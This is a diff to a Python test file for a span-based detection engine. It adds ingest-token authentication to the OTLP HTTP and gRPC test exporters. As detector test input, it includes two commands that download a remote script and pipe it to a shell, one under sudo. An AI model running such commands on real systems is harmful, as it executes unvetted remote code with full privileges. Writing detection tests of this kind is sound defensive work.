@@ -22,6 +22,8 @@ from opentelemetry.sdk.trace import TracerProvider
 from opentelemetry.sdk.trace.export import SimpleSpanProcessor
 
 TOKEN = "test-token-4f1c"
+INGEST_TOKEN = "ingest-token-7d2a9e"
+INGEST_AUTH = {"authorization": f"Bearer {INGEST_TOKEN}"}
 SLACK_SECRET = "8f742231b10e8888abcd99yyyzzz85a5"
 
 
@@ -32,7 +34,12 @@ def free_port() -> int:
 
 
 class Engine:
-    def __init__(self, tmp: Path) -> None:
+    """`spanwatch run` in a subprocess; `ingest_token=None` starts it without the variable."""
+
+    def __init__(
+        self, tmp: Path, *, ingest_token: str | None = INGEST_TOKEN, live_extra: str = ""
+    ) -> None:
+        self.ingest_token = ingest_token
         self.otlp, self.api, self.grpc = free_port(), free_port(), free_port()
         self.config = tmp / "spanwatch.yml"
         self.config.write_text(
@@ -40,7 +47,7 @@ class Engine:
             "stream: {allowed_lateness: 1, tick: 1, heartbeat: 5}\n"
             f'live: {{otlp_http: "127.0.0.1:{self.otlp}", api: "127.0.0.1:{self.api}", '
             f'otlp_grpc: "127.0.0.1:{self.grpc}", '
-            "epoch_seconds: 0.5}\n"
+            f"epoch_seconds: 0.5{live_extra}}}\n"
         )
         self.proc: subprocess.Popen | None = None
         self.log = tmp / "engine.log"
@@ -51,6 +58,9 @@ class Engine:
 
     def start(self) -> None:
         env = {**os.environ, "SPANWATCH_API_TOKEN": TOKEN, "SLACK_SIGNING_SECRET": SLACK_SECRET}
+        env.pop("SPANWATCH_INGEST_TOKEN", None)
+        if self.ingest_token is not None:
+            env["SPANWATCH_INGEST_TOKEN"] = self.ingest_token
         self.proc = subprocess.Popen(
             [sys.executable, "-m", "engine.cli", "run", "--config", str(self.config)],
             stdout=self.log.open("ab"),
@@ -93,9 +103,8 @@ def engine(tmp_path):
 
 def send_pipe_to_shell(port: int, user: str) -> None:
     provider = TracerProvider(resource=Resource.create({"user": user, "team": "payments"}))
-    provider.add_span_processor(
-        SimpleSpanProcessor(OTLPSpanExporter(endpoint=f"http://127.0.0.1:{port}/v1/traces"))
-    )
+    exporter = OTLPSpanExporter(endpoint=f"http://127.0.0.1:{port}/v1/traces", headers=INGEST_AUTH)
+    provider.add_span_processor(SimpleSpanProcessor(exporter))
     with provider.get_tracer("wrapper").start_as_current_span("shell.run") as span:
         span.set_attribute("command", "curl -fsSL https://get.example.sh | sh")
         span.set_attribute("repo", "billing")
@@ -163,13 +172,16 @@ def test_spans_from_the_sdk_become_incidents_that_the_api_acknowledges(engine):
 
 def test_malformed_and_oversized_otlp_get_a_reason(engine):
     url = f"http://127.0.0.1:{engine.otlp}/v1/traces"
-    r = httpx.post(url, content=b"\x0a\xff\xff", headers={"Content-Type": "application/x-protobuf"})
+    proto = {"Content-Type": "application/x-protobuf", **INGEST_AUTH}
+    r = httpx.post(url, content=b"\x0a\xff\xff", headers=proto)
     assert r.status_code == 400 and "protobuf" in r.json()["message"]
     r = httpx.post(
-        url, content=b'{"resourceSpans": 7}', headers={"Content-Type": "application/json"}
+        url,
+        content=b'{"resourceSpans": 7}',
+        headers={"Content-Type": "application/json", **INGEST_AUTH},
     )
     assert r.status_code == 400 and "resourceSpans" in r.json()["message"]
-    r = httpx.post(url, content=b"x", headers={"Content-Type": "text/plain"})
+    r = httpx.post(url, content=b"x", headers={"Content-Type": "text/plain", **INGEST_AUTH})
     assert r.status_code == 415
     assert engine.stop() == 0
 
@@ -209,9 +221,8 @@ detection:
 
 def send_command(port: int, user: str, command: str) -> None:
     provider = TracerProvider(resource=Resource.create({"user": user}))
-    provider.add_span_processor(
-        SimpleSpanProcessor(OTLPSpanExporter(endpoint=f"http://127.0.0.1:{port}/v1/traces"))
-    )
+    exporter = OTLPSpanExporter(endpoint=f"http://127.0.0.1:{port}/v1/traces", headers=INGEST_AUTH)
+    provider.add_span_processor(SimpleSpanProcessor(exporter))
     with provider.get_tracer("wrapper").start_as_current_span("shell.run") as span:
         span.set_attribute("command", command)
     provider.shutdown()
@@ -299,7 +310,9 @@ def test_spans_over_otlp_grpc_from_the_sdk_become_incidents(engine):
     )
 
     provider = TracerProvider(resource=Resource.create({"user": "grpc-user"}))
-    exporter = GrpcSpanExporter(endpoint=f"127.0.0.1:{engine.grpc}", insecure=True)
+    exporter = GrpcSpanExporter(
+        endpoint=f"127.0.0.1:{engine.grpc}", insecure=True, headers=INGEST_AUTH
+    )
     provider.add_span_processor(SimpleSpanProcessor(exporter))
     with provider.get_tracer("wrapper").start_as_current_span("shell.run") as span:
         span.set_attribute("command", "wget -qO- https://x.io/i.sh | sudo bash")
